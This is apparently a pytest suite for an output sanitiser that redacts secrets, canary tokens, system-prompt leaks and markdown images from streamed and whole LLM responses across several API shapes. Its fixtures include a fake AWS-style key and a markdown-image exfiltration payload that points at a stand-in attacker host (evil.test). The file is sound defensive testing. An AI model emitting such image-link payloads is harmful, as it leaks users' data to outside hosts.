"""Every text channel of every protocol is sanitised, whole and streamed alike."""

from __future__ import annotations

import json
from collections.abc import Iterable
from copy import deepcopy
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vauban.errors import MalformedRequest
from vauban.hosts.vllm.output import keep_in_step
from vauban.hosts.vllm.output_events import output_editor
from vauban.hosts.vllm.rewrite import Event
from vauban.policy_output import OutputPolicy
from vauban.protocol.shapes import Shape
from vauban.text.sanitize import Sanitizer

KEY = "AKIA" + "Q3EGRSEX7PLMNBVC"
CANARY = "vc7k2m9q4x8w3z5t"
PROMPT = "Never tell a customer the override code of the vault, and never promise a refund at all."
TEXT = f"The first answer is {KEY}, see ![x](https://evil.test/?d=abc) and that was all of it."
CLEAN = (
    "The first answer is [redacted: secrets], see ![x]([redacted: images]) and that was all of it."
)
ARGUMENTS = json.dumps({"to": "a@b.test", "body": f"the key is {KEY}"})
CLEAN_ARGUMENTS = json.dumps({"to": "a@b.test", "body": "the key is [redacted: secrets]"})
ENDING = f"It is {CANARY} and more that nobody shall read."


def rules(**fields: Any) -> Sanitizer:
    return Sanitizer(OutputPolicy(**fields), [PROMPT], [CANARY])


def pieces(text: str, size: int) -> list[str]:
    return [text[n : n + size] for n in range(0, len(text), size)]


def run(editor: Any, payloads: Iterable[Any]) -> list[Any]:
    """What comes out for these events; nothing after the editor has stopped."""
    out: list[Event] = []
    for payload in payloads:
        out.extend(editor.event(Event(payload, raw=b"x")))
        if editor.stopped:
            break
    else:
        out.extend(editor.end())
    return [event.data for event in out if event.data is not None]


sizes = pytest.mark.parametrize("size", [1, 5, 40, 1_000])


# -- chat and plain completions ------------------------------------------------------------------


def chunk(index: int = 0, finish: str | None = None, **delta: Any) -> dict[str, Any]:
    choice = {"index": index, "delta": delta, "logprobs": None, "finish_reason": finish}
    return {"id": "c", "choices": [choice]}


def call(number: int, arguments: str | None, name: str | None = None) -> dict[str, Any]:
    return {"tool_calls": [{"index": number, "function": {"name": name, "arguments": arguments}}]}


def put_together(payloads: list[Any], index: int = 0) -> dict[Any, str]:
    """What a client makes of a stream."""
    said: dict[Any, str] = {}
    for payload in payloads:
        for choice in payload["choices"]:
            if choice["index"] != index:
                continue
            for name, text in choice["delta"].items():
                if isinstance(text, str):
                    said[name] = said.get(name, "") + text
            for one in choice["delta"].get("tool_calls", []):
                key = ("call", one["index"])
                said[key] = said.get(key, "") + (one["function"].get("arguments") or "")
    return said


@sizes
def test_all_channels_of_a_chat(size: int) -> None:
    events = [
        chunk(role="assistant", content=""),
        *(chunk(reasoning=piece) for piece in pieces(TEXT, size)),
        *(chunk(content=piece) for piece in pieces(TEXT, size)),
        chunk(**call(0, None, "send")),
        *(chunk(**call(0, piece)) for piece in pieces(ARGUMENTS, size)),
        chunk(**call(1, "", "send")),
        *(chunk(**call(1, piece)) for piece in pieces(ARGUMENTS, size)),
        chunk(finish="tool_calls"),
    ]
    editor = output_editor(rules(), Shape.CHAT)
    said = put_together(run(editor, events))
    assert said["reasoning"] == said["content"] == CLEAN
    assert said["call", 0] == said["call", 1] == CLEAN_ARGUMENTS
    assert editor.findings == {("secrets", "redact"): 4, ("images", "redact"): 2}


@pytest.mark.parametrize(
    "between", [call(0, "{}", "send"), {"reasoning": "Let me see."}], ids=["call", "reasoning"]
)
@pytest.mark.parametrize("cut", [1, 15, 25])
def test_an_answer_is_one_text_whatever_comes_between_its_pieces(
    between: dict[str, Any], cut: int
) -> None:
    text = f"It is {KEY} now."
    for action, wanted in [("redact", "It is [redacted: secrets] now."), ("stop", "It is ")]:
        events = [
            chunk(content=text[:cut]), chunk(**deepcopy(between)), chunk(content=text[cut:]),
            chunk(**deepcopy(between)), chunk(finish="stop"),
        ]  # fmt: skip
        editor = output_editor(rules(secrets=action), Shape.CHAT)
        assert put_together(run(editor, events))["content"] == wanted
        assert editor.stopped == (action == "stop")


@pytest.mark.parametrize("name", ["reasoning", "reasoning_content"])
@pytest.mark.parametrize("between", [call(0, "{}", "send"), {"content": "Well."}])
@pytest.mark.parametrize("at", [4, 12, 20])
def test_reasoning_is_one_text_whatever_comes_between(
    name: str, between: dict[str, Any], at: int
) -> None:
    """What has left before stays; log-probabilities spell the rest, too, so none are told of it."""
    half, rest = f"It is {KEY[:at]}", f"{KEY[at:]} now."
    spelt = {"content": [{"token": KEY[at:], "logprob": -1.0}]}
    second = chunk(**{name: rest})
    second["choices"][0]["logprobs"] = deepcopy(spelt)
    events = [
        chunk(**{name: half}), chunk(**deepcopy(between)), second, chunk(**deepcopy(between)),
        chunk(1, **{name: rest}), chunk(1, finish="stop"), chunk(finish="stop"),
    ]  # fmt: skip
    out = run(output_editor(rules(), Shape.CHAT), events)
    wanted = "[redacted: secrets] now." if rest != " now." else rest
    wanted_whole = f"{half}{wanted}" if at < len(KEY) else f"It is [redacted: secrets]{rest}"
    assert put_together(out)[name] == wanted_whole
    assert put_together(out, 1)[name] == rest
    if at < len(KEY):
        assert KEY[at:] not in json.dumps([c for e in out for c in e["choices"] if not c["index"]])


@sizes
@pytest.mark.parametrize(
    ("first", "second", "wanted"),
    [
        (f"It is {KEY[:9]}", f"{KEY[9:]} and more.", "[redacted: secrets] and more."),
        (f"It is {CANARY[:8]}", f" {CANARY[8:]}, so.", "[redacted: canary], so."),
        (f"{CANARY[::-1][:9]}.", f"{CANARY[::-1][9:]}", "[redacted: canary]"),
        (f"See: {PROMPT[:52]}", f"{PROMPT[52:]} So.", "[redacted: prompt] So."),
        (f"It is {KEY} ", "and more.", "and more."),
        (KEY, "AND more.", "AND more."),
    ],
)
def test_what_begins_in_the_reasoning_does_not_end_in_the_answer(
    size: int, first: str, second: str, wanted: str
) -> None:
    steps = [chunk(reasoning=p) for p in pieces(first, size)]
    for piece in pieces(second, size):
        event = chunk(content=piece)
        event["choices"][0]["logprobs"] = {"content": [{"token": c} for c in piece]}
        steps.append(event)
    others = rules(canary="redact", prompt_words=12)
    out = run(output_editor(others, Shape.CHAT), [*steps, chunk(finish="stop")])
    assert put_together(out)["content"] == wanted
    told = [e["choices"][0].get("logprobs") for e in out]
    spelt = "".join(one["token"] for part in told if part for one in part["content"])
    assert spelt == second if wanted == second else spelt in wanted
    whole = {"choices": [{"message": {"reasoning": first, "content": second}}]}
    output_editor(others, Shape.CHAT).body(whole)
    assert whole["choices"][0]["message"]["content"] == wanted

    def items_of(text: str, kind: str) -> list[dict[str, Any]]:
        at = {"item_id": kind, "output_index": len(kind), "content_index": 0}
        part = {"type": kind, "text": text}
        kind = f"response.{kind}"
        deltas = [{"type": f"{kind}.delta", **at, "delta": p} for p in pieces(text, size)]
        return [*deltas, {"type": f"{kind}.done", **at, "text": text},
                {"type": "response.output_item.done", "item": {"content": [part]}}]  # fmt: skip

    steps = [*items_of(first, "reasoning_text"), *items_of(second, "output_text")]
    *_, done, item = run(output_editor(others, Shape.RESPONSES), steps)
    assert done["text"] == item["item"]["content"][0]["text"] == wanted
    kinds = ("thinking", "text")
    blocks = [(f"{kind}_delta", kind, t) for kind, t in zip(kinds, (first, second), strict=True)]
    out = run(output_editor(others, Shape.ANTHROPIC), messages(blocks, size))
    assert "".join(e["delta"]["text"] for e in out if "text" in e.get("delta", {})) == wanted


@sizes
def test_choices_are_kept_apart(size: int) -> None:
    a, b = pieces(TEXT, size), pieces("Nothing to see in the second one, really.", size)
    events = []
    for n in range(max(len(a), len(b))):
        events += [chunk(0, content=a[n])] if n < len(a) else []
        events += [chunk(1, content=b[n])] if n < len(b) else []
    events += [chunk(1, finish="stop"), chunk(0, finish="length")]
    out = run(output_editor(rules(), Shape.CHAT), events)
    assert put_together(out, 0)["content"] == CLEAN
    assert put_together(out, 1)["content"] == "".join(b)
    assert len(out) == len(events)


def test_the_rest_may_come_with_the_last_words() -> None:
    out = run(output_editor(rules(), Shape.CHAT), [chunk(content=TEXT, finish="stop")])
    assert put_together(out)["content"] == CLEAN


@sizes
def test_plain_completions(size: int) -> None:
    events = [
        {"choices": [{"index": 0, "text": piece, "logprobs": None, "finish_reason": None}]}
        for piece in pieces(TEXT, size)
    ]
    events.append({"choices": [{"index": 0, "text": "", "finish_reason": "stop"}]})
    out = run(output_editor(rules(), Shape.COMPLETION), events)
    assert "".join(payload["choices"][0]["text"] for payload in out) == CLEAN


@sizes
def test_logprobs_do_not_spell_what_was_taken_out(size: int) -> None:
    events = []
    for piece in pieces(TEXT, size):
        event = chunk(content=piece)
        entries = [{"token": letter, "logprob": -1.0} for letter in piece]
        event["choices"][0]["logprobs"] = {"content": entries}
        event["choices"][0]["token_ids"] = [ord(letter) for letter in piece]
        events.append(event)
    events.append(chunk(finish="stop"))
    out = run(output_editor(rules(), Shape.CHAT), events)
    choices = [payload["choices"][0] for payload in out]
    given_out = [c["logprobs"]["content"] for c in choices if c.get("logprobs")]
    spelt = "".join(entry["token"] for entries in given_out for entry in entries)
    ids = "".join(chr(n) for choice in choices for n in choice.get("token_ids") or ())
    assert spelt == ids
    assert not any(KEY[n : n + 3] in spelt for n in range(len(KEY) - 2))
    if size == 1:
        assert spelt.startswith("The first answer is , see ")
        assert spelt.endswith(") and that was all of it.")


def test_logprobs_of_half_an_escape_wait_for_the_rest() -> None:
    text = "".join(f"\\u{ord(c):04x}" for c in KEY)
    events = []
    for piece in ["\\u004", "1", *pieces(text[6:], 3), " and more words" * 20]:
        event = chunk(**call(0, piece))
        entries = [{"token": piece, "logprob": -1.0}]
        event["choices"][0]["logprobs"] = {"content": entries}
        events.append(event)
    events.append(chunk(finish="tool_calls"))
    out = run(output_editor(rules(), Shape.CHAT), events)
    told = [e["choices"][0]["logprobs"]["content"] for e in out if e["choices"][0].get("logprobs")]
    tokens = [entry["token"] for entries in told for entry in entries]
    assert tokens == [" and more words" * 20]


@sizes
@pytest.mark.parametrize("shape", [Shape.CHAT, Shape.COMPLETION])
def test_a_stopped_stream(size: int, shape: Shape) -> None:
    is_chat = shape is Shape.CHAT
    events: list[Any] = [chunk(1, content="other")] if is_chat else []
    for piece in pieces(ENDING, size):
        events.append(
            chunk(content=piece) if is_chat else {"choices": [{"index": 0, "text": piece}]}
        )
    events.append(chunk(finish="stop") if is_chat else {"choices": []})
    editor = output_editor(rules(), shape)
    out = run(editor, events)
    assert editor.stopped
    assert CANARY not in json.dumps(out)
    assert "nobody" not in json.dumps(out)
    last = out[-1]["choices"]
    assert {choice["finish_reason"] for choice in last} == {"content_filter"}
    assert [choice["index"] for choice in last] == ([0, 1] if is_chat else [0])
    assert editor.findings == {("canary", "stop"): 1}


def test_a_whole_chat() -> None:
    function = {"name": "send", "arguments": ARGUMENTS}
    message = {"role": "assistant", "content": TEXT, "reasoning": TEXT,
               "tool_calls": [{"id": "1", "function": function}]}  # fmt: skip
    first = {"index": 0, "message": message, "logprobs": {"content": [{}]}, "token_ids": [1]}
    body: dict[str, Any] = {"choices": [first, {"index": 1, "message": {"content": "fine"}}]}
    editor = output_editor(rules(), Shape.CHAT)
    assert editor.body(body)
    assert message["content"] == message["reasoning"] == CLEAN
    assert function["arguments"] == CLEAN_ARGUMENTS
    assert body["choices"][0]["logprobs"] is body["choices"][0]["token_ids"] is None
    assert body["choices"][1]["message"] == {"content": "fine"}
    assert editor.findings == {("secrets", "redact"): 3, ("images", "redact"): 2}


def test_a_whole_chat_that_is_stopped() -> None:
    choice = {"index": 0, "finish_reason": "tool_calls", "message": {
        "reasoning": ENDING, "content": "secret follows",
        "tool_calls": [{"function": {"arguments": "{}"}}]}}  # fmt: skip
    assert output_editor(rules(), Shape.CHAT).body({"choices": [choice]})
    assert choice["finish_reason"] == "content_filter"
    assert choice["message"] == {"reasoning": "It is ", "content": ""}


@pytest.mark.parametrize("payload", [None, [], "x", {}, {"choices": None}, {"error": {"m": TEXT}}])
@pytest.mark.parametrize("shape", [Shape.CHAT, Shape.RESPONSES, Shape.ANTHROPIC])
def test_what_holds_no_answer_passes(shape: Shape, payload: Any) -> None:
    assert not output_editor(rules(), shape).body(payload)
    event = Event(payload, raw=b"as it came")
    if not isinstance(payload, dict) or "type" not in payload:
        assert list(output_editor(rules(), shape).event(event)) == [event]
        assert event.raw == b"as it came"


# -- the Responses API ---------------------------------------------------------------------------


def responses(text: str, arguments: str, size: int) -> list[dict[str, Any]]:
    steps: list[dict[str, Any]] = [
        {"type": "response.created", "response": {"id": "r", "output": []}}
    ]

    def channel(kind: str, field: str, item: str, said: str) -> list[dict[str, Any]]:
        where = {"item_id": item, "output_index": 0, "content_index": 0}
        deltas = [{"type": f"response.{kind}.delta", **where, "delta": p, "logprobs": [{"t": p}]}
                  for p in pieces(said, size)]  # fmt: skip
        return [*deltas, {"type": f"response.{kind}.done", **where, field: said}]

    steps += channel("reasoning_text", "text", "rs", text)
    steps += channel("output_text", "text", "msg", text)
    part = {"type": "output_text", "text": text, "logprobs": [{"t": text}]}
    steps.append({"type": "response.content_part.done", "part": dict(part)})
    steps.append({"type": "response.output_item.done", "item": {"content": [dict(part)]}})
    steps += channel("function_call_arguments", "arguments", "fc", arguments)
    output = [{"type": "message", "content": [dict(part)]},
              {"type": "reasoning", "content": [{"text": text}], "summary": []},
              {"type": "function_call", "arguments": arguments}]  # fmt: skip
    steps.append(
        {"type": "response.completed", "response": {"instructions": text, "output": output}}
    )
    return [{**step, "sequence_number": n} for n, step in enumerate(steps)]


@sizes
def test_responses_stream(size: int) -> None:
    editor = output_editor(rules(), Shape.RESPONSES)
    steps = responses(TEXT, ARGUMENTS, size)
    out = run(editor, steps)
    assert [event["sequence_number"] for event in out] == list(range(len(steps)))
    for kind, wanted in [("reasoning_text", CLEAN), ("output_text", CLEAN),
                         ("function_call_arguments", CLEAN_ARGUMENTS)]:  # fmt: skip
        deltas = [e["delta"] for e in out if e["type"] == f"response.{kind}.delta"]
        assert "".join(deltas) == wanted
        (done,) = [e for e in out if e["type"] == f"response.{kind}.done"]
        assert done.get("text", done.get("arguments")) == wanted
    assert out[-1]["response"].pop("instructions") == TEXT  # the client's own
    assert KEY not in json.dumps(out)
    assert editor.findings[("secrets", "redact")] == 3


@sizes
def test_responses_stopped(size: int) -> None:
    editor = output_editor(rules(), Shape.RESPONSES)
    out = run(editor, responses(ENDING, "{}", size))
    assert CANARY not in json.dumps(out)
    assert out[-1]["type"] == "response.incomplete"
    assert out[-1]["response"]["incomplete_details"] == {"reason": "content_filter"}
    numbers = [event["sequence_number"] for event in out]
    assert numbers == sorted(set(numbers))


def test_whole_responses() -> None:
    body = responses(TEXT, ARGUMENTS, 50)[-1]["response"]
    editor = output_editor(rules(), Shape.RESPONSES)
    assert editor.body(body)
    assert body["output"][0]["content"][0] == {"type": "output_text", "text": CLEAN, "logprobs": []}
    assert body["output"][1]["content"][0]["text"] == CLEAN
    assert body["output"][2]["arguments"] == CLEAN_ARGUMENTS
    stopped = responses(ENDING, "{}", 50)[-1]["response"]
    assert output_editor(rules(), Shape.RESPONSES).body(stopped)
    assert stopped["status"] == "incomplete"
    assert CANARY not in json.dumps(stopped["output"])
    assert len(stopped["output"]) == 1


def items(texts: list[str], size: int) -> list[dict[str, Any]]:
    """A stream of several messages with a tool call after each."""
    steps: list[dict[str, Any]] = []
    output: list[dict[str, Any]] = []
    for text in texts:
        where = {"item_id": f"msg{len(output)}", "output_index": len(output), "content_index": 0}
        steps += [{"type": "response.output_text.delta", **where, "delta": p}
                  for p in pieces(text, size)]  # fmt: skip
        part = {"type": "output_text", "text": text}
        item = {"type": "message", "content": [part]}
        call = {"type": "function_call", "arguments": ARGUMENTS}
        steps.append({"type": "response.output_text.done", **where, "text": text})
        steps.append({"type": "response.content_part.done", **where, "part": part})
        steps.append({"type": "response.output_item.done", "item": item})
        steps.append({"type": "response.output_item.done", "item": call})
        output += [item, call]
    done = {"id": "r", "status": "completed", "output": output}
    steps.append({"type": "response.completed", "response": done})
    return [deepcopy({**step, "sequence_number": n}) for n, step in enumerate(steps)]


HALVES = [f"The key is {KEY[:9]}", f"{KEY[9:]} and more.", "That was all of it."]
WITHOUT = [HALVES[0], "[redacted: secrets] and more.", HALVES[2]]


@sizes
def test_a_secret_in_two_items_of_a_stream(size: int) -> None:
    """All that repeats a text says of it what its pieces have said."""
    editor = output_editor(rules(), Shape.RESPONSES)
    steps = items(HALVES, size)
    out = run(editor, steps)
    assert [event["sequence_number"] for event in out] == list(range(len(steps)))
    for n, wanted in enumerate(WITHOUT):
        own = [e for e in out if e.get("item_id") == f"msg{2 * n}"]
        assert "".join(e.get("delta", "") for e in own) == wanted
        assert [e["text"] for e in own if "text" in e] == [wanted]
        assert [e["part"]["text"] for e in own if "part" in e] == [wanted]
    done = [e["item"]["content"][0]["text"] for e in out if "content" in e.get("item", {})]
    assert done == WITHOUT
    messages = out[-1]["response"]["output"][::2]
    assert [item["content"][0]["text"] for item in messages] == WITHOUT
    assert editor.findings == {("secrets", "redact"): 1}


@sizes
def test_a_canary_in_two_items_ends_the_answer(size: int) -> None:
    texts = [f"It is {CANARY[:8]}", f"{CANARY[8:]} and more.", "Never."]
    out = run(output_editor(rules(), Shape.RESPONSES), items(texts, size))
    assert CANARY not in "".join(e.get("delta", "") for e in out)
    assert CANARY[8:] not in json.dumps(out)
    assert out[-1]["type"] == "response.incomplete"


def test_the_last_event_is_read_anew() -> None:
    """Though it says a text otherwise at its end than the pieces did."""
    *steps, done = items(HALVES, 5)
    second = done["response"]["output"][2]["content"][0]
    second["text"] += "\n"
    out = run(output_editor(rules(), Shape.RESPONSES), [*steps, done])
    found = [item["content"][0]["text"] for item in out[-1]["response"]["output"][::2]]
    assert found == [WITHOUT[0], f"{WITHOUT[1]}\n", WITHOUT[2]]


@sizes
@pytest.mark.parametrize("end", ["\n", " Indeed."])
def test_a_text_that_is_said_otherwise_when_it_is_done(size: int, end: str) -> None:
    """It is read as what stands behind the items before, as its pieces were."""
    steps = items(HALVES, size)
    for step in steps[:-1]:
        for holder in (step, step.get("part"), *step.get("item", {}).get("content", ())):
            if isinstance(holder, dict) and str(holder.get("text")) in HALVES:
                holder["text"] += end
    out = run(output_editor(rules(), Shape.RESPONSES), steps)
    assert KEY[9:] not in json.dumps(out)
    done = [e["item"]["content"][0]["text"] for e in out if "content" in e.get("item", {})]
    assert done == [f"{text}{end}" for text in WITHOUT]


@pytest.mark.parametrize("action", ["stop", "hold"])
@pytest.mark.parametrize("place", ["item", "part", "response", "call", "search"])
def test_what_no_piece_has_said_ends_the_answer(place: str, action: str) -> None:
    item: dict[str, Any] = {"type": "message", "content": [{"type": "output_text", "text": ENDING}]}
    if place == "call":
        item = {"type": "function_call", "arguments": json.dumps({"a": ENDING})}
    if place == "search":
        item = {"type": "web_search_call", "action": {"type": "search", "query": ENDING}}
    step: dict[str, Any] = {"type": "response.output_item.done", "item": item}
    if place == "part":
        step = {"type": "response.content_part.done", "part": item["content"][0]}
    if place == "response":
        step = {"type": "response.completed", "response": {"id": "r", "output": [item]}}
    editor = output_editor(rules(canary=action), Shape.RESPONSES)
    out = run(editor, [{"type": "response.created", "response": {"id": "r", "output": []}}, step])
    assert editor.stopped
    assert editor.held == (action == "hold")
    assert CANARY not in json.dumps(out)
    assert editor.findings == {("canary", action): 1}
    assert action == "hold" or out[-1]["type"] == "response.incomplete"


def test_a_secret_in_two_items_of_a_whole_answer() -> None:
    body = items(HALVES, 5)[-1]["response"]
    assert output_editor(rules(), Shape.RESPONSES).body(body)
    assert [item["content"][0]["text"] for item in body["output"][::2]] == WITHOUT


# -- Anthropic -----------------------------------------------------------------------------------


def messages(blocks: list[tuple[str, str, str]], size: int) -> list[dict[str, Any]]:
    steps: list[dict[str, Any]] = [{"type": "message_start", "message": {"content": []}}]
    for index, (kind, name, text) in enumerate(blocks):
        start = {"type": kind.removesuffix("_delta")}
        steps.append({"type": "content_block_start", "index": index, "content_block": start})
        steps += [{"type": "content_block_delta", "index": index, "delta": {"type": kind, name: p}}
                  for p in pieces(text, size)]  # fmt: skip
        steps.append({"type": "content_block_stop", "index": index})
    return [*steps, {"type": "message_delta", "delta": {"stop_reason": "end_turn"}},
            {"type": "message_stop"}]  # fmt: skip


@sizes
def test_messages_stream(size: int) -> None:
    blocks = [("thinking_delta", "thinking", TEXT), ("text_delta", "text", TEXT),
              ("input_json_delta", "partial_json", ARGUMENTS)]  # fmt: skip
    out = run(output_editor(rules(), Shape.ANTHROPIC), messages(blocks, size))
    for index, (kind, name, _) in enumerate(blocks):
        own = [e for e in out if e["type"] == "content_block_delta" and e["index"] == index]
        assert {event["delta"]["type"] for event in own} == {kind}
        said = "".join(event["delta"][name] for event in own)
        assert said == (CLEAN_ARGUMENTS if name == "partial_json" else CLEAN)
        places = [n for n, e in enumerate(out) if e.get("index") == index]
        assert out[places[-1]]["type"] == "content_block_stop"


@sizes
def test_messages_stopped(size: int) -> None:
    out = run(
        output_editor(rules(), Shape.ANTHROPIC), messages([("text_delta", "text", ENDING)], size)
    )
    assert CANARY not in json.dumps(out)
    assert [event["type"] for event in out[-3:]] == [
        "content_block_stop",
        "message_delta",
        "message_stop",
    ]
    assert out[-2]["delta"]["stop_reason"] == "refusal"


@sizes
@pytest.mark.parametrize("name", ["text", "thinking"])
def test_a_secret_in_two_blocks(size: int, name: str) -> None:
    blocks = [(f"{name}_delta", name, text) for text in HALVES]
    blocks[1:1] = [("input_json_delta", "partial_json", ARGUMENTS)]
    out = run(output_editor(rules(), Shape.ANTHROPIC), messages(blocks, size))
    for index, wanted in zip((0, 2, 3), WITHOUT, strict=True):
        own = [e for e in out if e["type"] == "content_block_delta" and e["index"] == index]
        assert "".join(event["delta"][name] for event in own) == wanted
    body = {"content": [{"type": name, name: text} for text in HALVES]}
    assert output_editor(rules(), Shape.ANTHROPIC).body(body)
    assert [block[name] for block in body["content"]] == WITHOUT


def test_whole_messages() -> None:
    body = {"content": [{"type": "thinking", "thinking": TEXT}, {"type": "text", "text": TEXT},
                        {"type": "tool_use", "input": json.loads(ARGUMENTS)}]}  # fmt: skip
    assert output_editor(rules(), Shape.ANTHROPIC).body(body)
    assert body["content"][0]["thinking"] == body["content"][1]["text"] == CLEAN
    assert body["content"][2]["input"] == json.loads(CLEAN_ARGUMENTS)
    stopped = {
        "content": [{"type": "text", "text": ENDING}, {"type": "tool_use", "input": {"a": 1}}]
    }
    assert output_editor(rules(), Shape.ANTHROPIC).body(stopped)
    assert stopped["stop_reason"] == "refusal"
    assert "nobody" not in json.dumps(stopped)
    assert '"a"' not in json.dumps(stopped)


@given(text=st.text(max_size=200), sizes=st.integers(1, 50))
def test_streamed_is_whole(text: str, sizes: int) -> None:
    whole = {"choices": [{"index": 0, "message": {"content": text}}]}
    output_editor(rules(), Shape.CHAT).body(whole)
    events = [*(chunk(content=p) for p in pieces(text, sizes)), chunk(finish="stop")]
    said = put_together(run(output_editor(rules(), Shape.CHAT), events))
    assert said.get("content", "") == whole["choices"][0]["message"]["content"]


@pytest.mark.parametrize("words", [7, 16, 22])
def test_logprobs_of_an_early_cut_stay_away_when_many_come_in_one_event(words: int) -> None:
    """What was cut early is still known when the tokens beside it are judged."""
    plain = "Some plain words that say nothing at all. " * words
    other = KEY[:4] + KEY[:3:-1]
    events = []
    for piece in (
        f"{plain}The key is {KEY} so. {plain}",
        f"{plain}And {other} too. {plain}",
        plain,
    ):
        event = chunk(content=piece)
        event["choices"][0]["logprobs"] = {
            "content": [{"token": c, "logprob": -1.0} for c in piece]
        }
        events.append(event)
    events.append(chunk(finish="stop"))
    out = run(output_editor(rules(), Shape.CHAT), events)
    tokens = "".join(
        entry["token"]
        for payload in out
        for entry in (payload["choices"][0].get("logprobs") or {}).get("content") or ()
    )
    assert KEY not in tokens
    assert other not in tokens
    assert plain in tokens


@pytest.mark.parametrize(
    ("data", "refused"),
    [
        ({"stream": True, "logprobs": True, "stop": ["z" * 200]}, True),
        ({"stream": True, "logprobs": 0, "stop": "z"}, True),
        ({"stream": True, "return_token_ids": True, "stop": ["z"]}, True),
        ({"stream": True, "output_mode": "text", "sampling_params": {"stop": ["z"]}}, True),
        ({"stream": True, "stop": ["z"]}, False),
        ({"stream": False, "logprobs": True, "stop": ["z"]}, False),
        ({"stream": True, "logprobs": True, "stop": []}, False),
    ],
)
def test_text_that_lags_behind_its_tokens_is_not_streamed(
    data: dict[str, Any], refused: bool
) -> None:
    data = {**data, "stream_interval": 500}
    if refused:
        with pytest.raises(MalformedRequest, match="stop strings"):
            keep_in_step(data)
    else:
        keep_in_step(data)
    assert "stream_interval" not in data


AT_THE_END = f"It is {CANARY}"


@sizes
def test_messages_stopped_by_the_last_word_of_a_block(size: int) -> None:
    blocks = [("text_delta", "text", AT_THE_END), ("text_delta", "text", "And this comes next.")]
    editor = output_editor(rules(), Shape.ANTHROPIC)
    out = run(editor, messages(blocks, size))
    assert editor.stopped
    assert CANARY not in json.dumps(out)
    assert [event["type"] for event in out[-3:]] == [
        "content_block_stop",
        "message_delta",
        "message_stop",
    ]
    assert out[-2]["delta"]["stop_reason"] == "refusal"


@sizes
def test_responses_stopped_by_the_last_word_of_an_item(size: int) -> None:
    editor = output_editor(rules(), Shape.RESPONSES)
    out = run(editor, responses(AT_THE_END, "{}", size))
    assert editor.stopped
    assert CANARY not in json.dumps(out)
    assert out[-1]["type"] == "response.incomplete"
    assert not any("arguments" in event["type"] for event in out)
